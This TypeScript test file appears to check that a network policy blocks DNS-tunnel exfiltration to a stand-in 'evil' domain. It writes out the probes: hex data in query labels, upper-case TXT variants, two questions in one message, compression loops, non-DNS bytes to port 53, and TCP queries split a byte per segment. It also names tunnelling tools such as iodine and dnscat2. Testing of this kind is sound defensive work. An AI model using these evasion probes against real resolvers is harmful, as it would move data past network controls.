/** N12d to N13: DNS queries that carry data or a denied name. */
import { DNS4 } from "../support/addresses.ts";
import { TCP, UDP } from "../support/ip-packets.ts";
import { policy } from "../support/policies.ts";
import { question } from "./fixture.ts";
import { byName } from "./policies.ts";
import type { Row } from "./row.ts";
import { deniedOf } from "./runner.ts";
import { attemptAt } from "./sockets.ts";
import type { Target } from "./target.ts";

const hex = (bytes: Buffer) => bytes.toString("hex");

/** Bytes that must not reach the trusted resolver. */
function blocked(
	id: string,
	title: string,
	who: string,
	send: (t: Target) => readonly string[],
	over: "udp" | "tcp" = "udp",
	whole: (t: Target) => number = () => 0,
): Row {
	return {
		id,
		title,
		kind: "stop",
		who,
		policy: (t) =>
			byName(t, [{ name: "no-question", action: "deny", phases: ["dns"], to: { domain: `**.${t.evil.name}` } }]),
		run: async (fixture, t) => {
			const place = { address: DNS4, protocol: over === "udp" ? UDP : TCP, port: 53 };
			const { result, bytes } = await fixture.during(place, () =>
				fixture.script(`${over}4`, [`connect=${DNS4},53`, ...send(t), "read=300"]),
			);
			/* Incomplete parts of a message may pass: without its end, the resolver receives no query. */
			const asked = bytes < whole(t) ? 0 : bytes;
			return { ...attemptAt([], result), measured: { bytes: asked, recorded: await deniedOf(fixture, result) } };
		},
	};
}

const SECRET = "6e6f742d666f722d796f75";
const NOT_DNS = hex(Buffer.from("not DNS at all, not at all"));
const tunnel = (t: Target) => `${SECRET}.${SECRET}.${t.evil.name}`;

function framed(message: Buffer): Buffer {
	return Buffer.concat([Buffer.from([message.length >> 8, message.length & 255]), message]);
}

/** Header of a message with this number of questions. */
function head(questions: number): Buffer {
	return Buffer.from([0, 1, 1, 0, 0, questions, 0, 0, 0, 0, 0, 0]);
}

export const DNS_QUERIES: readonly Row[] = [
	blocked("N12d", "two questions in one message, the second one denied", "scapy", (t) => [
		`send=${hex(Buffer.concat([head(2), question(t.good.name).subarray(12), question(tunnel(t)).subarray(12)]))}`,
	]),
	blocked("N12e", "a name that is a compression loop", "scapy", () => [
		`send=${hex(Buffer.concat([head(1), Buffer.from("c00c00010001", "hex"), Buffer.from(SECRET)]))}`,
	]),
	blocked("N12f", "something that is no DNS, to the resolver's port", "a tunnel", () => [`send=${NOT_DNS}`]),
	{
		id: "N12k",
		title: "the same after an answer of the resolver, from a socket that is bound to a port",
		kind: "stop",
		who: "a tunnel",
		policy: byName,
		run: async (fixture, { also }) => {
			const asked = question(also.name);
			const { result, bytes } = await fixture.during({ address: DNS4, protocol: UDP, port: 53 }, () =>
				fixture.script("udp4", [
					"bind=0.0.0.0,46012",
					`sendto=${DNS4},53,${hex(asked)}`,
					"read=1000",
					`sendto=${DNS4},53,${NOT_DNS}`,
				]),
			);
			const measured = { bytes: bytes - asked.length, recorded: await deniedOf(fixture, result) };
			return { ...attemptAt([], result), measured };
		},
	},
	blocked("N13a", "data in the labels of a question, denied by phase dns", "iodine, dnscat2", (t) => [
		`send=${hex(question(tunnel(t)))}`,
	]),
	blocked("N13b", "the same in upper case, as TXT", "iodine, dnscat2", (t) => [
		`send=${hex(question(tunnel(t).toUpperCase(), "TXT"))}`,
	]),
	{
		id: "N13c",
		title: "data in labels, without a rule in phase dns: recorded and counted",
		kind: "pass",
		policy: byName,
		run: async (fixture, t) => {
			const name = tunnel(t);
			const outcome = await fixture.script("udp4", [`connect=${DNS4},53`, `send=${hex(question(name))}`, "read=500"]);
			const seen = await fixture.stage.record({ kind: "dns", name });
			return {
				...attemptAt([], outcome),
				ok: seen.verdict === "allow" && outcome.read !== "",
				measured: { bytes: outcome.read.length / 2, recorded: `${seen.verdict} dns: ${seen.reason}` },
			};
		},
	},
	{
		id: "N13d",
		title: "the allowed name, with a default of deny in phase dns",
		kind: "pass",
		policy: (t) => byName(t).replace('"dns": "allow"', '"dns": "deny"'),
		run: async (fixture, t) => {
			const answer = await fixture.ask(t.good.name);
			return { at: [{ address: DNS4 }], ok: answer !== "", clientSaw: answer === "" ? "no answer" : "answered" };
		},
	},
];

export const DNS_QUERIES_TCP: readonly Row[] = [
	{
		...blocked("N12j", "two denied questions in one send (UDP_SEGMENT), where only a rule denies", "any user", (t) => {
			const message = question(tunnel(t));
			return [`gso=${message.length}`, `send=${hex(message)}${hex(message)}`];
		}),
		policy: (t) =>
			policy({
				defaults: { connect: "allow" },
				rules: [{ name: "no-question", action: "deny", to: { domain: `**.${t.evil.name}` } }],
			}),
	},
	blocked("N12g", "a denied question over TCP", "dig +tcp", (t) => [`send=${hex(framed(question(tunnel(t))))}`], "tcp"),
	blocked(
		"N12h",
		"a denied question over TCP, a segment a byte",
		"a tunnel",
		(t) => [`each=${hex(framed(question(tunnel(t))))}`],
		"tcp",
		(t) => framed(question(tunnel(t))).length,
	),
	blocked(
		"N12i",
		"something that is no DNS, over TCP to the resolver's port",
		"a tunnel",
		() => [`send=${hex(Buffer.from("GET /not-dns HTTP/1.1\r\n\r\n"))}`],
		"tcp",
	),
];
